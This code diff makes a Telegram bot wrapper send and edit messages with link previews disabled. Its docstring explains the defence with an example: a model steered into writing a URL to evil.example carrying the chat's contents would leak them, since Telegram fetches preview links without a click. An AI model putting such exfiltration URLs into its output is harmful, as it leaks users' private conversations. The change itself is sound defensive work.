@@ -6,6 +6,9 @@ from typing import Any
 
 from telegram import Bot
 
+# Bot API 7.0's link_preview_options (disable_web_page_preview before it).
+NO_PREVIEW: dict[str, Any] = {"link_preview_options": {"is_disabled": True}}
+
 
 class RawBot(Bot):
     """A Bot with two calls that skip PTB's parsing of the answer into objects.
@@ -18,6 +21,10 @@ class RawBot(Bot):
 
     Both go through ``Bot._post``, so the defaults, the request layer and its mapping of
     errors (BadRequest, RetryAfter, Forbidden, ...) stay PTB's own.
+
+    Text goes out without a link preview: Telegram's servers fetch the first link of a
+    message to preview it, with no one clicking, so a model steered into writing
+    ``https://evil.example/?d=<what the chat said>`` would leak it on its own.
     """
 
     async def raw_updates(self, params: dict[str, Any], read_timeout: float) -> Any:
@@ -25,9 +32,9 @@ class RawBot(Bot):
 
     async def send_text(self, **params: Any) -> str:
         """sendMessage with ``params`` as the Bot API names them; the new message's id."""
-        result = await self._post("sendMessage", params)
+        result = await self._post("sendMessage", {**params, **NO_PREVIEW})
         return str(result["message_id"])
 
     async def edit_text(self, **params: Any) -> None:
         """editMessageText with ``params`` as the Bot API names them (answer not parsed)."""
-        await self._post("editMessageText", params)
+        await self._post("editMessageText", {**params, **NO_PREVIEW})
